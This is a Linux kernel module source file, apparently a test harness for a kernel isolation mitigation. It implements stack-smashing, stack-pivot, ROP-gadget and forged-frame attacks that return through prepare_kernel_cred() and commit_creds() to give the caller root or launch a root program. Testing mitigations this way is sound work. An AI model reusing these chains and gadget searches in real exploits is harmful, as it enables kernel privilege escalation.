// SPDX-License-Identifier: GPL-2.0-only
/*
 * A stack that is no longer the kernel's.  Without SYMBOL the attacks return
 * through prepare_kernel_cred() and commit_creds(): the caller becomes root.
 *
 *   ret [SYMBOL OFFSET [ARG]]   return to SYMBOL+OFFSET
 *   ret bodies                  ... and into the middle of both functions
 *   pivot [SYMBOL OFFSET [ARG]] the same with the stack moved to the heap
 *   pivot-to WHERE              ... to vmalloc memory, module data, user memory by
 *                               its place in the direct map (user), the kernel stack
 *                               of the parent, who waits (task), or another place
 *                               of the own stack (own)
 *   rop                         the first pop %rdi; ret behind commit_creds() takes
 *                               &init_cred from the stack for it
 *   fault-in-ret                return to a system call's function, then into the
 *                               middle of a function that it needs
 *   forge gadget                a call of commit_creds() in a function that does call it,
 *                               to which a gadget has returned
 *   forge junk                  the same with return addresses behind calls only, but
 *                               nothing below that calls would have left
 *   forge cred                  the stack as a call of commit_creds() in a function that
 *                               does call it would have left it, to the bottom
 *   forge work                  the same with queue_work_on(): the kernel starts a root
 *                               program
 *   ret-heap                    return to heap memory
 *   to-user                     the kernel's own return to user mode, out of the middle
 *                               of the system call (with PTI and SCI, the CPU resets)
 *   sleep                       wait for smash-sleeper, which another thread writes:
 *                               it replaces the return address of the one that sleeps
 */
#include <linux/completion.h>
#include <linux/cred.h>
#include <linux/mm.h>
#include <linux/mman.h>
#include <linux/prctl.h>
#include <linux/sched/task.h>
#include <linux/sched/task_stack.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>
#include <linux/workqueue.h>

#include <asm/text-patching.h>

#include "attack.h"

/* a fake stack: room below the chain for the frames of what it runs */
#define PIVOT_BYTES	16384
#define PIVOT_CHAIN	(PIVOT_BYTES / sizeof(u64) - 16)

/* the chain: what it was told, or else the host's root */
static int build_chain(int argc, char **argv, u64 *chain, u64 *arg)
{
	struct target t;
	int err, n = 0;

	if (argc <= 2) {
		bool bodies = argc == 2 && !strcmp(argv[1], "bodies");

		*arg = (u64)&init_task;
		chain[n++] = bodies ? known.prepare_kernel_cred_body : known.prepare_kernel_cred;
		chain[n++] = (u64)sci_attack_result_to_arg;
		chain[n++] = bodies ? known.commit_creds_body : known.commit_creds;
	} else {
		err = resolve_target(&t, argc, argv);
		if (err)
			return err;
		*arg = t.arg;
		chain[n++] = t.addr;
	}
	chain[n++] = (u64)sci_attack_resume;
	return n;
}

static int attack_ret(int argc, char **argv, u64 *result)
{
	u64 chain[4], arg;
	int n;

	n = build_chain(argc, argv, chain, &arg);
	if (n < 0)
		return n;
	*result = sci_attack_smash(chain, n, arg);
	return 0;
}

static int attack_pivot(int argc, char **argv, u64 *result)
{
	u64 *stack, *chain, arg;
	int n;

	stack = kzalloc(PIVOT_BYTES, GFP_KERNEL);
	if (!stack)
		return -ENOMEM;
	chain = stack + PIVOT_CHAIN;
	n = build_chain(argc, argv, chain, &arg);
	if (n > 0)
		*result = sci_attack_pivot(chain, n, arg);
	kfree(stack);
	return n < 0 ? n : 0;
}

/*
 * The kernel's stack pointer cannot be a user address: SMAP stops the first push
 * or pop, and with AC set the next exception, whose frame the CPU writes there in
 * any case.  The direct map has the same memory at an address of the kernel's.
 */
static int pivot_user(u64 **stack, struct page **page)
{
	unsigned long start, inside;
	int err;

	/* Somewhere in it is a huge page, whose small ones are neighbours. */
	start = vm_mmap(NULL, 0, 2 * PMD_SIZE, PROT_READ | PROT_WRITE,
			MAP_PRIVATE | MAP_ANONYMOUS, 0);
	if (IS_ERR_VALUE(start))
		return start;
	inside = ALIGN(start, PMD_SIZE);
	err = get_user_pages_fast(inside, 1, FOLL_WRITE, page);
	if (err != 1)
		return -EFAULT;
	if (folio_size(page_folio(*page)) < PIVOT_BYTES) {
		put_page(*page);
		return -ENOSPC;
	}
	*stack = page_address(*page);
	return 0;
}

static int attack_pivot_to(int argc, char **argv, u64 *result)
{
	static u64 module_data[PIVOT_BYTES / sizeof(u64)];
	u64 *stack = NULL, *chain, arg;
	struct page *page = NULL;
	void *vmalloced = NULL;
	int n;

	if (argc != 2)
		return -EINVAL;
	if (!strcmp(argv[1], "vmalloc")) {
		stack = vmalloced = vzalloc(PIVOT_BYTES);
		if (!stack)
			return -ENOMEM;
		chain = stack + PIVOT_CHAIN;
	} else if (!strcmp(argv[1], "module")) {
		chain = module_data + PIVOT_CHAIN;
	} else if (!strcmp(argv[1], "user")) {
		n = pivot_user(&stack, &page);
		if (n)
			return n;
		chain = stack + PIVOT_CHAIN;
	} else if (!strcmp(argv[1], "task")) {
		/* It sleeps in wait4(2), near the top of its stack. */
		chain = task_stack_page(current->real_parent) + THREAD_SIZE / 2;
	} else if (!strcmp(argv[1], "own")) {
		chain = task_stack_page(current) + THREAD_SIZE / 2;
	} else {
		return -EINVAL;
	}
	n = build_chain(1, argv, chain, &arg);
	if (n > 0)
		*result = sci_attack_pivot(chain, n, arg);
	if (page)
		put_page(page);
	vfree(vmalloced);
	return n < 0 ? n : 0;
}

/* pop %rdi; ret, which the compiler never writes: the end of pop %r15; ret */
static int find_pop_arg(void *data)
{
	u64 ip, *found = data;

	for (ip = known.commit_creds; ip < known.commit_creds + 0x100000; ip++) {
		if (*(u8 *)ip == 0x5f && is_return(ip + 1)) {
			*found = ip;
			return 0;
		}
	}
	return -ENXIO;
}

static int attack_rop(int argc, char **argv, u64 *result)
{
	u64 chain[4] = { 0, known.init_cred, known.commit_creds, (u64)sci_attack_resume };
	int err = prepare(find_pop_arg, &chain[0]);

	if (!err)
		*result = sci_attack_smash(chain, ARRAY_SIZE(chain), 0);
	return err;
}

static int attack_fault_in_ret(int argc, char **argv, u64 *result)
{
	u64 chain[5] = { 0, (u64)sci_attack_pop_arg, known.init_cred,
			 known.commit_creds_body, (u64)sci_attack_resume };
	struct pt_regs *regs;
	struct target t;
	int err;

	err = resolve(&t, "__x64_sys_prctl", NULL, NULL);
	if (err)
		return err;
	regs = kzalloc(sizeof(*regs), GFP_KERNEL);
	if (!regs)
		return -ENOMEM;
	regs->di = PR_SET_KEEPCAPS;
	regs->si = 1;
	chain[0] = t.addr;
	*result = sci_attack_smash(chain, ARRAY_SIZE(chain), (u64)regs);
	kfree(regs);
	return 0;
}

/* ------------------------------------------------------------------ */
/* forged frames */

#define MAX_FORGED	40

/*
 * A chain whose first word is a function, and whose second the return address of
 * a direct call of it, which soon returns itself.  The rest of that function's
 * frame follows: what it leaves unused, and registers.
 */
struct forgery {
	const char *name;
	u64 chain[MAX_FORGED + 1];
	unsigned int n;
	u8 save[NR_SAVED];	/* MAX_FORGED: not in the frame */
};

/* Forge the frame that the code behind a call instruction takes from the stack. */
static bool forge_frame(struct forgery *f, u64 ip)
{
	static const s8 pops[16] = {
		[0 ... 15] = -1,
		[3] = SAVED_RBX, [5] = SAVED_RBP,
		[12] = SAVED_R12, [13] = SAVED_R13, [14] = SAVED_R14, [15] = SAVED_R15,
	};
	int steps, reg;

	memset(f->save, MAX_FORGED, sizeof(f->save));
	f->n = 2;
	for (steps = 0; steps < 16; steps++) {
		const u8 *code = (const u8 *)ip;
		int rex = (code[0] & 0xf0) == 0x40;
		u8 op = code[rex];

		if (is_return(ip))
			return true;
		if (op >= 0x58 && op <= 0x5f) {			/* pop */
			reg = pops[(op - 0x58) + (rex && (code[0] & 1) ? 8 : 0)];
			if (reg < 0 || f->n == MAX_FORGED)
				return false;
			f->save[reg] = f->n++;
			ip += rex + 1;
		} else if (op == 0x83 && code[rex + 1] == 0xc4) {	/* add $imm8,%rsp */
			f->n += code[rex + 2] / 8;
			if (f->n > MAX_FORGED)
				return false;
			ip += rex + 3;
		} else if (op == 0x98) {			/* cltq */
			ip += rex + 1;
		} else if ((op == 0x89 || op == 0x63 || op == 0x31) &&
			   code[rex + 1] >= 0xc0) {		/* between registers */
			ip += rex + 2;
		} else if (op >= 0xb8 && op <= 0xbf && !rex) {	/* mov $imm32,%reg */
			ip += 5;
		} else {
			return false;
		}
	}
	return false;
}

static int prepare_forgery(void *data)
{
	u64 ip, text = address_of("_stext"), end = address_of("__sci_thunks_start");
	struct forgery *f = data;

	f->chain[0] = address_of(f->name);
	if (!end)
		end = address_of("_etext");
	if (!text || !end || !f->chain[0])
		return -ENOENT;
	for (ip = text; ip < end - 64; ip++) {
		if (*(u8 *)ip != CALL_INSN_OPCODE ||
		    ip + CALL_INSN_SIZE + *(s32 *)(ip + 1) != f->chain[0])
			continue;
		/* One that the view does not get together with the function. */
		if (ip >> PAGE_SHIFT == f->chain[0] >> PAGE_SHIFT)
			continue;
		f->chain[1] = ip + CALL_INSN_SIZE;
		if (forge_frame(f, f->chain[1]))
			return 0;
	}
	return -ENXIO;
}

static int attack_forge(int argc, char **argv, u64 *result)
{
	struct forgery *f;
	u64 args[3] = { };
	int err;

	if (argc != 2)
		return -EINVAL;
	f = kzalloc(sizeof(*f), GFP_KERNEL);
	if (!f)
		return -ENOMEM;

	f->name = "commit_creds";
	args[0] = known.init_cred;
	if (!strcmp(argv[1], "work")) {
		f->name = "queue_work_on";
		args[0] = WORK_CPU_UNBOUND;
		args[1] = (u64)system_wq;
		args[2] = (u64)root_program();
	}
	err = prepare(prepare_forgery, f);
	if (!err && (!strcmp(argv[1], "junk") || !strcmp(argv[1], "gadget"))) {
		f->chain[f->n++] = argv[1][0] == 'j' ? (u64)sci_attack_resume_called :
						       (u64)sci_attack_resume;
		*result = sci_attack_smash(f->chain, f->n, args[0]);
	} else if (!err) {
		*result = sci_attack_forge(f->chain, f->n, args, f->save);
	}
	kfree(f);
	return err;
}

static int attack_ret_heap(int argc, char **argv, u64 *result)
{
	const u64 resume = (u64)sci_attack_resume;
	void *code = kmemdup(payload, PAYLOAD_BYTES, GFP_KERNEL);

	if (!code)
		return -ENOMEM;
	*result = sci_attack_smash((u64[]){ (u64)code, resume }, 2, 0);
	kfree(code);
	return 0;
}

static int attack_to_user(int argc, char **argv, u64 *result)
{
	struct target t;
	int err;

	err = resolve(&t, "swapgs_restore_regs_and_return_to_usermode", NULL, NULL);
	if (err)
		return err;
	/* all has been written */
	task_pt_regs(current)->ax = task_pt_regs(current)->dx;
	sci_attack_to_user(task_pt_regs(current), t.addr);
	return 0;
}

/* ------------------------------------------------------------------ */
/* a thread that sleeps */

static u64 *sleeper_slot;
static struct task_struct *sleeper;
static DECLARE_COMPLETION(sleeper_wakes);

void sci_attack_sleeper(u64 *slot)
{
	sleeper = current;
	/* for attack_smash_sleeper(), which looks at the slot first */
	smp_store_release(&sleeper_slot, slot);
	wait_for_completion(&sleeper_wakes);
}

static int attack_sleep(int argc, char **argv, u64 *result)
{
	*result = sci_attack_sleep();
	return 0;
}

static int attack_smash_sleeper(int argc, char **argv, u64 *result)
{
	u64 *slot = smp_load_acquire(&sleeper_slot);	/* before the sleeper */

	/* On its way there, it may meet code that is new to its view. */
	if (!slot || READ_ONCE(sleeper->on_rq) || READ_ONCE(sleeper->on_cpu))
		return -EAGAIN;
	WRITE_ONCE(sleeper_slot, NULL);
	slot[0] = (u64)sci_attack_pop_arg;
	slot[1] = known.init_cred;
	slot[2] = known.commit_creds;
	slot[3] = (u64)sci_attack_resume;
	complete(&sleeper_wakes);
	return 0;
}

const struct attack stack_attacks[] = {
	{ "ret",		attack_ret },
	{ "pivot",		attack_pivot },
	{ "pivot-to",		attack_pivot_to },
	{ "rop",		attack_rop },
	{ "fault-in-ret",	attack_fault_in_ret },
	{ "forge",		attack_forge },
	{ "ret-heap",		attack_ret_heap },
	{ "to-user",		attack_to_user },
	{ "sleep",		attack_sleep },
	{ "smash-sleeper",	attack_smash_sleeper },
	{ }
};
